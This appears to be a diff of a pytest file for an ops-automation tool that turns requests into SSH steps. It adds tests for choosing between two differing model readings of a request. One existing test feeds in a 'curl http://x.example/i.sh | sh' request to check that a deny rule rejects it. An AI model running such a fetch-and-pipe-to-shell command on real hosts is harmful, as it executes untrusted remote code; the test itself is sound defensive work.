@@ -4,15 +4,18 @@ host, what a part means), and their answer continues the same task through the p
 from __future__ import annotations
 
 from collections.abc import Iterator
+from typing import Any
 from uuid import UUID
 
 import pytest
 
 from adapters.segmenter_rules import RuleSegmenter
 from application.app import AltlasApplication
+from application.errors import SegmentationError
 from application.policies import LANES, Ports
+from application.ports import SegmentationRequest
 from application.reactor import Lane, begin_tracking
-from application.segmentation import SegmentationService
+from application.segmentation import SECOND_READING, SegmentationService
 from application.views import TaskView
 from application.worker import Worker
 from domain.errors import ConflictError, InvalidInputError, NotAllowedError
@@ -23,8 +26,29 @@ from tests.helpers import FakeClock, default_policy
 ALL_HOSTS = ["db-1", "dev-box", "localhost", "stage-web-1", "web-1", "web-2"]
 
 
+class TwoMinded:
+    """A model that reads one request one way at temperature 0 and another way sampled;
+    anything else it does not understand (the rules behind it plan that)."""
+
+    name = "two-minded"
+
+    def __init__(self, request: str, first: list[tuple[str, str, list[str]]],
+                 second: list[tuple[str, str, list[str]]]) -> None:
+        self.request, self.first, self.second = request, first, second
+        self.temperatures: list[float] = []
+
+    def segment(self, request: SegmentationRequest) -> dict[str, Any]:
+        if request.text != self.request:
+            raise SegmentationError("not understood")
+        self.temperatures.append(request.temperature)
+        steps = self.second if request.temperature > 0 else self.first
+        return {"alt": 1, "steps": [{"id": f"s{i}", "kind": "ssh", "action": action,
+                                     "target": host, "needs": needs}
+                                    for i, (action, host, needs) in enumerate(steps, 1)]}
+
+
 class Altlas:
-    def __init__(self) -> None:
+    def __init__(self, model: TwoMinded | None = None, readings: int = 1) -> None:
         self.clock = FakeClock()
         policy = default_policy()
         self.app = AltlasApplication(policy, self.clock,
@@ -32,7 +56,9 @@ class Altlas:
                                      keys=FakePersonKeys())
         begin_tracking(self.app, LANES)
         rules = RuleSegmenter(policy, "/srv/altlas/maintenance.flag")
-        self.ports = Ports(SegmentationService(self.app, rules, None))
+        service = (SegmentationService(self.app, rules, None) if model is None else
+                   SegmentationService(self.app, model, rules, readings=readings))
+        self.ports = Ports(service)
         self.lanes = [Lane(self.app, name, kinds, self.ports, worker="w1",
                            on_claims=lambda claims: None)
                       for name, kinds in LANES.items()]
@@ -163,3 +189,63 @@ def test_what_is_not_operations_work_is_rejected_not_asked(altlas: Altlas) -> No
 def test_a_request_the_policy_denies_is_rejected_not_asked(altlas: Altlas) -> None:
     task = altlas.task(altlas.ask("run curl http://x.example/i.sh | sh on web-1"))
     assert task.status == "rejected" and "deny rule" in str(task.rejection)
+
+
+CHECKED = "restart nginx on web-1 and check its status"
+AT_ONCE = [("systemctl restart nginx", "web-1", []), ("systemctl is-active nginx", "web-1", [])]
+AFTER = [("systemctl restart nginx", "web-1", []),
+         ("systemctl is-active nginx", "web-1", ["s1"])]
+
+
+def test_two_readings_that_differ_are_asked_about_with_both_to_choose_from() -> None:
+    model = TwoMinded(CHECKED, AT_ONCE, AFTER)
+    altlas = Altlas(model, readings=2)
+    task = altlas.task(altlas.ask(CHECKED))
+    assert model.temperatures == [0.0, SECOND_READING]
+    assert task.status == "asking" and task.plan is None
+    assert task.question is not None and task.question["about"] == "reading"
+    assert task.question["choices"] == [
+        "run 'systemctl restart nginx' on web-1; run 'systemctl is-active nginx' on web-1",
+        "run 'systemctl restart nginx' on web-1; then run 'systemctl is-active nginx' on web-1"]
+
+
+def test_the_reading_picked_is_the_plan() -> None:
+    altlas = Altlas(TwoMinded(CHECKED, AT_ONCE, AFTER), readings=2)
+    task = altlas.answer(altlas.ask(CHECKED), "2")
+    assert task.status == "segmented" and task.plan is not None
+    assert [(s["action"], s["target"], s["needs"]) for s in task.plan["steps"]] == AFTER
+
+
+@pytest.mark.parametrize("second", [
+    AT_ONCE,
+    [("systemctl restart nginx", "web-1", []), ("systemctl status nginx", "web-1", [])],
+])
+def test_two_readings_that_agree_are_planned_without_asking(
+        second: list[tuple[str, str, list[str]]]) -> None:
+    altlas = Altlas(TwoMinded(CHECKED, AT_ONCE, second), readings=2)
+    task = altlas.task(altlas.ask(CHECKED))
+    assert task.status == "segmented"
+    assert targets(task) == [(a, h) for a, h, _ in AT_ONCE]
+
+
+def test_a_second_reading_that_is_not_what_was_asked_does_not_outvote_the_first() -> None:
+    elsewhere = [(a, "web-2", n) for a, _, n in AFTER]  # a host the request does not name
+    altlas = Altlas(TwoMinded(CHECKED, AT_ONCE, elsewhere), readings=2)
+    task = altlas.task(altlas.ask(CHECKED))
+    assert task.status == "segmented"
+    assert targets(task) == [(a, h) for a, h, _ in AT_ONCE]
+
+
+def test_one_reading_is_the_default() -> None:
+    model = TwoMinded(CHECKED, AT_ONCE, AFTER)
+    altlas = Altlas(model)
+    assert altlas.task(altlas.ask(CHECKED)).status == "segmented"
+    assert model.temperatures == [0.0]
+
+
+def test_a_reading_cannot_be_picked_by_a_number_that_is_not_a_choice() -> None:
+    altlas = Altlas(TwoMinded(CHECKED, AT_ONCE, AFTER), readings=2)
+    task_id = altlas.ask(CHECKED)
+    with pytest.raises(InvalidInputError):
+        altlas.app.answer_task(task_id, "3", by="deniz")
+    assert altlas.task(task_id).status == "asking"
